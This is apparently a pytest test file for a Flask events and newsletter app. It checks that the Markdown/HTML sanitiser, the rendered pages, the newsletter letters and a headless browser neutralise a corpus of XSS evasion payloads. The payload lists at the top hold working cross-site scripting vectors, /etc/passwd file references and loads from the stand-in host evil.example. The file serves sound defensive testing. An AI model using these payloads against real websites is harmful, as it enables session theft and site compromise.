"""Nothing that people write becomes a script: a corpus of known tricks, in Markdown, on pages and in letters.

What may be in HTML is held to an allow-list by a parser, and once more by a browser, which runs whatever it is given.
"""

from collections.abc import Callable, Collection
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser

from network_api.documents import utcnow
from network_api.markdown import ATTRIBUTES, SCHEMES, TAGS, safe_html_below
from network_api.networks.documents import Network
from newsletters.documents import Newsletter
from newsletters.issues.documents import Block, Issue
from newsletters.issues.markdown import safe_html
from newsletters.issues.rendering import Links, render
from tests.events.factories import make_event
from tests.newsletters.factories import make_newsletter

# After the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's cheat sheet, and reports against Markdown renderers.
HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img/src/onerror=alert(1)>",
    "<img ''' src=x onerror=alert(1)//>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<div style="width:expression(alert(1))">x</div>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ config }}{% for x in y %}",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "</mj-text></mj-column><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    '![x](https://example.org/x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](https://example.org/x.png)',
    '[x](https://example.org/ "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://example.org/'onmouseover='alert(1))",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](x 'onerror=alert(1)')](javascript:alert(1))",
    "[a](javascript://example.org/%0Aalert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "* <svg onload=alert(1)>\n> <svg onload=alert(1)>",
    "\\<script>alert(1)</script>",
    "![x](//evil.example/x.svg#<script>alert(1)</script>)",
)
CORPUS = HTML + MARKDOWN
FOREIGN = ("iframe", "object", "embed", "base", "svg", "math", "noscript", "template", "xss")
OURS = ("svg",)  # the pages draw a map
EVERYTHING = "\n\n".join(CORPUS)


class Found(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note it."""
        self.tags.append((tag, dict(attrs)))


def dangerous(html: str, tags: Collection[str] = FOREIGN) -> list[str]:
    """What could run, or lead where no address of ours may: scripts inside the page, handlers of events, foreign schemes."""
    found = []
    for tag, attributes in Found(html).tags:
        if tag in tags or (tag == "script" and not (attributes.get("src") or "").startswith("/static/")):
            found.append(tag)
        for name, value in attributes.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href"):
                found.append(f"{tag} {name}")
            if name in ("href", "src", "action") and _scheme(value) not in ("", *SCHEMES):
                found.append(f"{tag} {name}={value}")
    return found


def _scheme(value: str | None) -> str:
    compact = "".join(letter for letter in value or "" if letter > " ")
    return urlsplit(compact).scheme.lower()


@pytest.mark.parametrize("make", [safe_html, lambda text: safe_html_below(2, text)])
def test_markdown_becomes_nothing_but_what_is_allowed(make: Callable[[str], str]) -> None:
    for text in (*CORPUS, EVERYTHING):
        html = make(text)
        assert dangerous(html) == [], text
        for tag, attributes in Found(html).tags:
            assert tag in TAGS, text
            assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel"}, text


def test_what_is_dangerous_is_found() -> None:
    """The negative control: as they are, most of these would be run."""
    assert sum(bool(dangerous(text)) for text in HTML) > len(HTML) * 2 / 3
    assert dangerous('<a href="java\tscript:alert(1)">x</a>') == ["a href=java\tscript:alert(1)"]


@pytest.fixture
def everywhere(regional: Network) -> tuple[str, Issue]:
    """A theme day and a letter that say the corpus in every text."""
    text = {"fi": EVERYTHING}
    line = {"fi": " ".join(HTML)}
    day = utcnow() + timedelta(days=3)
    session = {
        "title": line,
        "description": text,
        "starts_at": day,
        "ends_at": day + timedelta(hours=1),
        "track": None,
        "room": line["fi"],
        "modes": None,
    }
    speaker = dict.fromkeys(("name", "role", "organisation"), line["fi"])
    event = make_event(
        regional,
        starts_at=day,
        ends_at=day + timedelta(hours=2),
        title=line,
        summary=text,
        description=text,
        topics=[trick for trick in HTML if len(trick) < 80],
        venue={"name": line["fi"], "address": line["fi"], "directions": text, "accessibility": text},
        agenda=[{**session, "speakers": [speaker]}],
    )
    newsletter = make_newsletter(regional, name=line)
    issue = Issue(
        newsletter_id=newsletter.pk,
        network_id=regional.pk,
        title=line,
        blocks=[Block(section="editorial", text=text)],
        author_id=regional.pk,
        edited_by=regional.pk,
    ).insert()
    Network.change({"_id": regional.pk}, {"$set": {"name": line, "description": text}})
    return event.slug, issue


def test_pages_show_it_as_text(visitor: FlaskClient, everywhere: tuple[str, Issue], regional: Network) -> None:
    slug, _ = everywhere
    for path in ("/", "/events", f"/events/{slug}", f"/networks/{regional.slug}", "/newsletters"):
        answer = visitor.get(path)
        assert answer.status_code == 200, path
        assert dangerous(answer.text, set(FOREIGN) - set(OURS)) == [], path
        assert "alert(1)" in answer.text, path


def letter_of(issue: Issue) -> str:
    return render(Newsletter.get(issue.newsletter_id), issue, "fi", Links()).html


def test_letters_show_it_as_text(everywhere: tuple[str, Issue]) -> None:
    html = letter_of(everywhere[1])
    assert "alert(1)" in html
    assert dangerous(html) == []


def test_a_browser_runs_none_of_it(browser: Browser, everywhere: tuple[str, Issue]) -> None:
    page = browser.new_page()
    ran: list[Any] = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.route("**/*", lambda route: route.abort())
    for html in (safe_html(EVERYTHING), safe_html_below(2, EVERYTHING), letter_of(everywhere[1])):
        page.set_content(html, wait_until="domcontentloaded")
        page.wait_for_function("document.readyState === 'complete'")
    assert ran == []
    page.set_content("<img src=x onerror=alert(1)>")  # the negative control
    page.wait_for_function("document.images[0].complete")
    assert ran == ["1"]
    page.close()
